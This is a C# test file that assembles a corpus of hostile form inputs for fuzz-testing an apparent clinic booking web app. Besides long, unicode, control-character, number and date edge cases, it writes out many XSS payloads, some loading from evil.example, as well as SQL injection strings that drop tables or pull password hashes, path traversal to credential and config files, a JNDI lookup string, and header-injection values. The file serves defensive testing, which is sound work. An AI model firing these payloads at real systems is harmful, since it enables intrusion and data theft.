using System.Globalization;
using System.Text;

namespace MicroNeedling.Web.Tests;

/// <summary>One hostile value. <paramref name="Marker"/> is a token unique to the value (empty when the value cannot carry one, such as a number).</summary>
public sealed record HostileValue(int Index, string Category, string Text, string Marker)
{
    /// <summary>Markup characters the page must encode: such a value must never come back verbatim in the HTML.</summary>
    public bool NeedsEncoding => Marker.Length > 0 && Text.IndexOfAny(['<', '>', '"', '\'', '&']) >= 0;

    /// <summary>No text field in the app may store this much: the longest column holds 4000 characters.</summary>
    public bool TooLongForAnyField => Text.Length > 4000;

    /// <summary>A well-formed date far outside any date the clinic deals in (before 1900 or after 2100): no date field may accept it.</summary>
    public bool IsExtremeDate =>
        DateOnly.TryParseExact(Text, "yyyy-MM-dd", CultureInfo.InvariantCulture, DateTimeStyles.None, out var date) && (date.Year < 1900 || date.Year > 2100);

    public override string ToString() => $"#{Index} {Category} ({Text.Length} chars): {Preview}";

    private string Preview
    {
        get
        {
            var head = Text.Length > 40 ? Text[..40] + "…" : Text;
            var printable = new StringBuilder();
            foreach (var c in head)
            {
                printable.Append(char.IsControl(c) || char.IsSurrogate(c) ? $"\\u{(int)c:X4}" : c.ToString());
            }

            return printable.ToString();
        }
    }
}

/// <summary>
/// The values posted into every field of every form by <see cref="HostileInputTests"/>: markup and script, SQL-like
/// strings, very long strings, control characters, right-to-left and emoji text, blank values, and invalid or extreme
/// numbers, dates, times and identifiers. Values that can carry one hold a marker (<c>hx###</c>), so a page that shows
/// the value back can be searched for it.
/// </summary>
public static class HostileInputCorpus
{
    public static IReadOnlyList<HostileValue> All { get; } = Build();

    /// <summary>For a text field alone: markup, SQL, control characters, right-to-left text, and every length that passes a column limit.</summary>
    public static IReadOnlyList<HostileValue> ForText { get; } =
    [
        .. Pick("markup", 5), .. Pick("sql-like", 2), .. Pick("unicode", 3), .. Pick("control", 4), .. LengthProbes, .. Pick("blank", 1),
        .. Pick("email", 1), .. Pick("identifier", 1),
    ];

    /// <summary>For a typed field alone: the extremes of its type, and a little of everything else.</summary>
    public static IReadOnlyList<HostileValue> For(string kind) => kind switch
    {
        "text" or "textarea" or "email" or "password" or "search" => ForText,
        "number" => [.. Pick("number", 10), .. Others],
        "date" => [.. Pick("date", 12), .. Others],
        "time" => [.. Pick("time", 6), .. Others],
        _ => [.. Pick("identifier", 4), .. Pick("number", 3), .. Others],
    };

    /// <summary>For the fields of a table form's second and later rows, which bind like the first.</summary>
    public static IReadOnlyList<HostileValue> ForLaterRows { get; } = [.. Pick("number", 2), .. Pick("date", 1), .. Pick("markup", 1), .. Pick("long", 1)];

    /// <summary>Into every field of a form at once.</summary>
    public static IReadOnlyList<HostileValue> ForAllFieldsAtOnce { get; } =
        [.. All.GroupBy(v => v.Category).SelectMany(g => Pick(g.Key, 2))];

    /// <summary>Posted as the route id of the forms that have no field; only values a browser can put in a path.</summary>
    public static IReadOnlyList<HostileValue> ForRouteIds { get; } =
        [.. All.GroupBy(v => v.Category).SelectMany(g => Pick(g.Key, 3))
            .Where(v => v.Text.Length < 1000 && !v.Text.Any(char.IsControl) && !v.Text.Any(char.IsSurrogate))];

    private static IReadOnlyList<HostileValue> Others => [.. Pick("markup", 1), .. Pick("long", 1), .. Pick("blank", 1)];

    /// <summary>One string just past each column limit in the app (40, 64, 80, 100, 200, 254, 1000 and 4000 characters), and the 100 kB ones.</summary>
    private static IEnumerable<HostileValue> LengthProbes =>
        All.Where(v => v.Category == "long" && v.Text.Length is 41 or 65 or 81 or 101 or 201 or 255 or 1001 or 4001)
            .Concat(All.Where(v => v.Category == "long" && v.Text.Length >= 100 * 1024).Take(2));

    /// <summary><paramref name="count"/> values of a category, spread evenly over it.</summary>
    private static IEnumerable<HostileValue> Pick(string category, int count)
    {
        var values = All.Where(v => v.Category == category).ToList();
        var step = Math.Max(1, values.Count / count);
        return values.Where((_, i) => i % step == 0).Take(count);
    }

    private static List<HostileValue> Build()
    {
        var values = new List<HostileValue>();

        void Add(string category, Func<string, string> make)
        {
            var marker = $"hx{values.Count:D3}";
            values.Add(new HostileValue(values.Count, category, make(marker), marker));
        }

        void AddPlain(string category, string text) => values.Add(new HostileValue(values.Count, category, text, ""));

        foreach (var payload in new Func<string, string>[]
        {
            m => $"<script>alert('{m}')</script>",
            m => $"<SCRIPT SRC=//evil.example/{m}.js></SCRIPT>",
            m => $"\"><script>alert('{m}')</script>",
            m => $"'><script>alert('{m}')</script>",
            m => $"<img src=x onerror=alert('{m}')>",
            m => $"<svg/onload=alert('{m}')>",
            m => $"<svg><script>alert('{m}')</script></svg>",
            m => $"<iframe src=\"javascript:alert('{m}')\"></iframe>",
            m => $"javascript:alert('{m}')",
            m => $"<a href=\"javascript:alert('{m}')\">click</a>",
            m => $"\" onmouseover=\"alert('{m}')\" x=\"",
            m => $"' onfocus='alert(\"{m}\")' autofocus='",
            m => $"</textarea><script>alert('{m}')</script>",
            m => $"</title><script>alert('{m}')</script>",
            m => $"</option></select><script>alert('{m}')</script>",
            m => $"<body onload=alert('{m}')>",
            m => $"<div style=\"background:url(javascript:alert('{m}'))\">x</div>",
            m => $"<style>@import 'http://evil.example/{m}.css';</style>",
            m => $"<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
            m => $"<details open ontoggle=alert('{m}')>",
            m => $"<input autofocus onfocus=alert('{m}')>",
            m => $"<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">{m}</object>",
            m => $"<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/{m}\">",
            m => $"<base href=\"http://evil.example/{m}/\">",
            m => $"<form action=\"http://evil.example/{m}\"><button>Go</button></form>",
            m => $"<!--{m}--><script>alert(1)</script>",
            m => $"<![CDATA[<script>alert('{m}')</script>]]>",
            m => $"&lt;script&gt;alert('{m}')&lt;/script&gt;",
            m => $"&#60;script&#62;alert('{m}')&#60;/script&#62;",
            m => $"%3Cscript%3Ealert('{m}')%3C/script%3E",
            m => $"\\u003cscript\\u003ealert('{m}')\\u003c/script\\u003e",
            m => $"＜script＞alert('{m}')＜/script＞",
            m => $"{{{{constructor.constructor('alert(\"{m}\")')()}}}}",
            m => $"@(\"{m}\")@Html.Raw(\"<b>{m}</b>\")",
            m => $"${{alert('{m}')}}`<img src=x onerror=alert(1)>`",
            m => $"<scr<script>ipt>alert('{m}')</scr</script>ipt>",
            m => $"<ScRiPt>alert(String.fromCharCode(88,83,83))</ScRiPt>{m}",
            m => $"<video><source onerror=\"alert('{m}')\"></video>",
            m => $"<isindex type=image src=1 onerror=alert('{m}')>",
            m => $"<marquee onstart=alert('{m}')>{m}</marquee>",
            m => $"<a href=\"data:text/html,<script>alert('{m}')</script>\">x</a>",
            m => $"<template><script>alert('{m}')</script></template>",
        })
        {
            Add("markup", payload);
        }

        foreach (var payload in new Func<string, string>[]
        {
            m => $"' OR '1'='1' -- {m}",
            m => $"\" OR \"\"=\" {m}",
            m => $"'; DROP TABLE Patients; -- {m}",
            m => $"\"); DROP TABLE Bookings; -- {m}",
            m => $"1; DELETE FROM AspNetUsers; -- {m}",
            m => $"' UNION SELECT PasswordHash, Email FROM AspNetUsers -- {m}",
            m => $"admin'-- {m}",
            m => $"' AND 1=(SELECT COUNT(*) FROM sqlite_master) -- {m}",
            m => $"'||(SELECT sqlite_version())||' {m}",
            m => $"%' OR Notes LIKE '% {m}",
            m => $"\\'; SELECT 1; -- {m}",
            m => $"1' ORDER BY 100-- {m}",
            m => $"' ; ATTACH DATABASE '/tmp/{m}.db' AS x; --",
            m => $"'); INSERT INTO Rooms(Name) VALUES('{m}'); --",
            m => $"{m}' WAITFOR DELAY '0:0:5'--",
            m => $"{m}\" AND pg_sleep(5)--",
            m => $"*/ UNION /* {m}",
            m => $"{{\"$gt\": \"\"}} {m}",
            m => $"{m}; PRAGMA writable_schema=1;",
            m => $"NULL {m}",
        })
        {
            Add("sql-like", payload);
        }

        // One of them is exactly the 100 kB of the issue; the others sit just past the column limits.
        Add("long", m => m + new string('A', 100 * 1024 - m.Length));
        Add("long", m => m + string.Concat(Enumerable.Repeat("<script>alert(1)</script>", 4200)));
        Add("long", m => m + string.Concat(Enumerable.Repeat("😀", 51_200)));
        Add("long", m => m + string.Concat(Enumerable.Repeat("שלום ", 20_480)));
        Add("long", m => m + new string('x', 4001 - m.Length));
        Add("long", m => m + new string('y', 1001 - m.Length));
        Add("long", m => m + new string('z', 255 - m.Length));
        Add("long", m => m + new string('w', 201 - m.Length));
        Add("long", m => m + new string('v', 101 - m.Length));
        Add("long", m => m + new string('u', 81 - m.Length));
        Add("long", m => m + new string('t', 65 - m.Length));
        Add("long", m => m + new string('s', 41 - m.Length));
        Add("long", m => string.Concat(Enumerable.Repeat($"{m}\r\n", 2000)));
        Add("long", m => m + new string(' ', 100_000) + m);

        foreach (var control in new[]
        {
            "\0", "\u0001", "\u0002", "\u0007", "\b", "\t", "\n", "\v", "\f", "\r", "\r\n", "\u000E", "\u001B[31m", "\u001F",
            "\u007F", "\u0080", "\u0085", "\u009B", "\u00AD", "\u200B", "\u200D", "\u2028", "\u2029", "\uFEFF", "\uFFFE", "\uFFFF",
            "\uD800", "\uDC00", "\u0000\u0000\u0000",
        })
        {
            Add("control", m => $"{m}{control}{m}");
        }

        Add("control", m => $"\0{m}");
        Add("control", m => $"{m}\0");
        Add("control", m => $"\u001B]0;{m}\u0007");
        Add("control", m => $"{m}\r\nSet-Cookie: x={m}");

        foreach (var text in new[]
        {
            "مريم العلي", "אברהם כהן", "\u202Egnp.exe", "\u202Dabc\u202C", "\u200F\u200Eرقم", "فاطمة 😀", "👩‍⚕️ 💉✨", "🇬🇧🇫🇷🏳️‍🌈",
            "👍🏽👍🏿", "Z̷̢̛a̵͜l̴̨g̸̕o̷͢", "e\u0301e\u0301", "İıŞşĞğ", "Straße", "ÆØÅ æøå", "Ελληνικά", "Кириллица", "中文名字", "日本語テキスト",
            "한국어", "ไทย", "हिन्दी", "𝕏𝕐𝕑 𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "ｆｕｌｌｗｉｄｔｈ", "ᚠᛇᚻ", "O'Brien-Smith", "D'Angelo \"Danny\"",
        })
        {
            Add("unicode", m => $"{text} {m}");
        }

        foreach (var text in new[] { "", " ", "   ", "\u00A0", "\u3000", "\t \t", "\u2003\u2003", "\n\n" })
        {
            AddPlain("blank", text);
        }

        foreach (var text in new[]
        {
            "0", "-0", "-1", "1", "2147483647", "2147483648", "-2147483648", "-2147483649", "4294967296",
            "9223372036854775807", "9223372036854775808", "-9223372036854775809", "79228162514264337593543950335",
            "79228162514264337593543950336", "1e308", "1e309", "-1e308", "1e-324", "4.9e-324", "NaN", "Infinity", "-Infinity",
            "∞", "0.1", "0.0000000000000000000000000001", "1.7976931348623157E+308", "3.14159265358979323846264338327950288",
            "1,5", "1.000,5", "1_000", "0x7FFFFFFF", "1e3", "+5", "00000012", " 12 ", "١٢", "१२", "12abc", "1/0", "--1", "1.5.5",
            "99999999999999999999999999999999999999999999999999",
        })
        {
            AddPlain("number", text);
        }

        foreach (var text in new[]
        {
            "0001-01-01", "0001-01-02", "9999-12-31", "9999-12-30", "10000-01-01", "-0001-01-01", "0000-00-00", "2026-02-29",
            "2026-02-30", "2024-02-29", "2026-13-01", "2026-00-10", "2026-03-32", "1900-01-01", "1753-01-01", "1970-01-01",
            "2100-01-01", "2101-01-01", "2038-01-19", "2026-03-29", "2026-10-25", "2026-03-10T25:00", "2026-03-10T09:00:00Z",
            "31/12/2026", "12/31/2026", "2026/03/10", "10.03.2026", "2026-3-1", "20260310", "March 10, 2026", "today", "yesterday",
            "1e308-01-01", "9999999999-01-01", "2026-03-10\u00002026-03-11",
        })
        {
            AddPlain("date", text);
        }

        foreach (var text in new[]
        {
            "00:00", "23:59", "24:00", "25:00", "23:60", "-01:00", "99:99", "12:00:00.0000001", "12:00:60", "1:30 AM", "noon",
            "09:00:00", "9", "12:7", "T10:00", "00:00:00.0000000001", "23:59:59.9999999",
        })
        {
            AddPlain("time", text);
        }

        foreach (var text in new[]
        {
            "true", "false", "on", "yes", "TRUE", "999", "-999", "Face, Neck", "Face|Neck", "Unknown", "null", "undefined", "[object Object]",
            "00000000-0000-0000-0000-000000000000", "../../../../etc/passwd", "..\\..\\web.config", "C:\\Windows\\win.ini",
            "{0}{1}{2}", "%s%s%s%n", "%00", "%0d%0aX-Injected: 1", "${jndi:ldap://evil.example/a}", "{{7*7}}",
        })
        {
            AddPlain("identifier", text);
        }

        foreach (var payload in new Func<string, string>[]
        {
            m => $"{m}@example.com",
            m => $"{m}@example.com<script>alert(1)</script>",
            m => $"\"{m}<script>\"@example.com",
            m => $"{m}@example.com\r\nBcc: victim@example.com",
            m => $"{new string('a', 250)}{m}@example.com",
            m => $"{m}@例え.テスト",
            m => $"{m}@@example..com",
            m => $"{m}@localhost",
            m => $"{m}+tag@[127.0.0.1]",
            m => $"mailto:{m}@example.com",
        })
        {
            Add("email", payload);
        }

        return values;
    }

    /// <summary>The distinct texts, as a check that no two corpus entries are the same value.</summary>
    public static int DistinctCount => All.Select(v => v.Text).Distinct(StringComparer.Ordinal).Count();

    public static string Describe() =>
        string.Join(", ", All.GroupBy(v => v.Category).Select(g => string.Create(CultureInfo.InvariantCulture, $"{g.Key} {g.Count()}")));
}
